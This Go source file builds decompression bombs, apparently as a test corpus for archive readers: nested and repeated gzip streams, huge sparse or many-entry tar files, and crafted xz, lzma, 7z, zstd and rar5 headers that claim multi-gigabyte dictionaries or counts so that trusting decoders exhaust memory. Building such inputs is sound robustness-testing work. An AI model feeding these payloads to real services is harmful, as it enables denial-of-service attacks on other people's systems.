package bombs

import (
	"archive/tar"
	"bytes"
	"embed"
	"encoding/binary"
	"fmt"
	"hash/crc32"
)

// zeros.* are 64 MiB of zeros (bz2: 1 GiB), as the usual tools pack them.
//
//go:embed data
var data embed.FS

func embedded(name string) []byte {
	b, err := data.ReadFile("data/" + name)
	if err != nil {
		panic(err) // it is part of the program
	}
	return b
}

func streams() []Bomb {
	return []Bomb{
		{Name: "zeros.gz", Make: func() []byte { return gzipOf(zeros(1<<10), 1<<30, 0) }},
		{Name: "zeros.tar.gz", Make: func() []byte {
			h := tarHeader("nol.bin", 1<<30, '0')
			return gzipOf(stored(h, zeros(1<<10)), 1<<30+512, 0)
		}},
		{Name: "members.gz", Make: func() []byte { return bytes.Repeat(gzipOf([]byte{3, 0}, 0, 0), 500_000) }},
		{Name: "gzip-in-gzip.gz", Make: func() []byte {
			b := gzipOf(zeros(100), 100<<20, 0)
			for range 40 {
				b = gzipOf(stored(b, []byte{3, 0}), len(b), crc32.ChecksumIEEE(b))
			}
			return b
		}},
		{Name: "zeros.bz2", Make: func() []byte { return embedded("zeros.bz2") }},
		{Name: "zeros.xz", Make: func() []byte { return bytes.Repeat(embedded("zeros.xz"), 16) }},
		{Name: "zeros.zst", Make: func() []byte { return bytes.Repeat(embedded("zeros.zst"), 16) }},
		{Name: "zeros.7z", Make: func() []byte { return embedded("zeros.7z") }},
		{Name: "entries.tar.gz", Make: manyInTar},
		{Name: "sparse.tar", Make: func() []byte { return sparseTar(1) }},
		{Name: "sparse-many.tar", Make: func() []byte { return sparseTar(500) }},
	}
}

// gzipOf is a gzip of what is deflated already.
func gzipOf(deflated []byte, n int, crc uint32) []byte {
	b := append([]byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"), deflated...)
	b = binary.LittleEndian.AppendUint32(b, crc)
	return binary.LittleEndian.AppendUint32(b, uint32(n))
}

// stored is deflate that says b as it is, before what is deflated already.
func stored(b, deflated []byte) []byte {
	var out []byte
	for len(b) > 0 {
		n := min(len(b), 65_535)
		out = append(out, 0)
		out = binary.LittleEndian.AppendUint16(out, uint16(n))
		out = binary.LittleEndian.AppendUint16(out, ^uint16(n))
		out = append(out, b[:n]...)
		b = b[n:]
	}
	return append(out, deflated...)
}

// tarHeader is a header of GNU tar.
func tarHeader(name string, size int64, kind byte) []byte {
	h := make([]byte, 512)
	copy(h, name)
	copy(h[100:], "0000644\x000000000\x000000000\x00")
	copy(h[124:], fmt.Sprintf("%011o\x0000000000000\x00        ", size))
	h[156] = kind
	copy(h[257:], "ustar  \x00")
	return sum(h)
}

func sum(h []byte) []byte {
	copy(h[148:], "        ")
	n := 0
	for _, c := range h {
		n += int(c)
	}
	copy(h[148:], fmt.Sprintf("%06o\x00 ", n))
	return h
}

// sparseTar is files of a TiB each, of which nothing is there.
func sparseTar(n int) []byte {
	var b bytes.Buffer
	for i := range n {
		h := tarHeader(fmt.Sprint(i, ".bin"), 0, 'S')
		copy(h[386:], fmt.Sprintf("%011o\x00%011o\x00", int64(1)<<32, 0))
		copy(h[483:], fmt.Sprintf("%011o\x00", int64(1)<<32))
		b.Write(sum(h))
	}
	b.Write(make([]byte, 1024))
	return b.Bytes()
}

func manyInTar() []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for i := range 20_000 {
		if err := w.WriteHeader(&tar.Header{Name: fmt.Sprint(i, ".txt"), Mode: 0o600}); err != nil {
			panic(err) // memory takes all
		}
	}
	w.Close()
	return gzipOf(stored(b.Bytes(), []byte{3, 0}), b.Len(), crc32.ChecksumIEEE(b.Bytes()))
}

// headers promise what is not there, so that a reader that believes them takes memory.
func headers() []Bomb {
	return []Bomb{
		{Name: "dictionary.xz", Make: func() []byte {
			b := bytes.Clone(embedded("zeros.xz"))
			b[12+4] = 40 // of the block: 4 GiB
			binary.LittleEndian.PutUint32(b[12+8:], crc32.ChecksumIEEE(b[12:12+8]))
			return b
		}},
		{Name: "dictionary.lzma", Make: func() []byte {
			return append([]byte("\x5d\x00\x00\x00\x80\xff\xff\xff\xff\xff\xff\xff\xff\x00"), make([]byte, 2000)...)
		}},
		{Name: "dictionary.7z", Make: func() []byte {
			// Packed header: one stream, one folder of LZMA with a dictionary of 4 GiB, of 2^40 octets.
			return sevenZip([]byte("\x17\x06\x00\x01\x09\x80\x80\x00\x07\x0b\x01\x00\x01\x23\x03\x01\x01\x05\x5d\xff\xff\xff\xff\x0c\xfc\x00\x00\x00\x00\x01\x00\x00"),
				make([]byte, 128))
		}},
		{Name: "files.7z", Make: func() []byte { return sevenZip([]byte("\x01\x05\xf0\xff\xff\xff\xff\x0e\x01\x00\x00\x00"), nil) }},
		{Name: "folders.7z", Make: func() []byte { return sevenZip([]byte("\x01\x04\x06\x00\xf0\xff\xff\xff\xff\x09\x00"), nil) }},
		{Name: "window.zst", Make: func() []byte {
			return append([]byte("\x28\xb5\x2f\xfd\x00\xb8"), bytes.Repeat([]byte{0x03, 0x00, 0x10, 'a'}, 10)...) // 4 GiB
		}},
		{Name: "window.rar", Make: rar5},
	}
}

// sevenZip is a 7z of streams and a header that is as it is.
func sevenZip(header, streams []byte) []byte {
	start := binary.LittleEndian.AppendUint64(nil, uint64(len(streams)))
	start = binary.LittleEndian.AppendUint64(start, uint64(len(header)))
	start = binary.LittleEndian.AppendUint32(start, crc32.ChecksumIEEE(header))
	b := binary.LittleEndian.AppendUint32([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), crc32.ChecksumIEEE(start))
	b = append(append(b, start...), streams...)
	return append(b, header...)
}

// rar5 is a file that asks for a dictionary of 4 GiB.
func rar5() []byte {
	b := []byte("Rar!\x1a\x07\x01\x00")
	block := func(body, data []byte) {
		h := append([]byte{byte(len(body))}, body...)
		b = binary.LittleEndian.AppendUint32(b, crc32.ChecksumIEEE(h))
		b = append(append(b, h...), data...)
	}
	block([]byte{1, 0, 0}, nil)
	// File with data: 64 octets packed, 2^30 unpacked, method 1 with a dictionary of 2^15 x 128 KiB.
	method := uint32(1<<7 | 15<<10)
	body := []byte{2, 2, 64, 0, 0x80, 0x80, 0x80, 0x80, 0x04, 0}
	body = append(body, byte(method&0x7f|0x80), byte(method>>7&0x7f|0x80), byte(method>>14))
	body = append(body, 1, 5)
	block(append(body, "a.txt"...), make([]byte, 64))
	block([]byte{5, 0, 0}, nil)
	return b
}
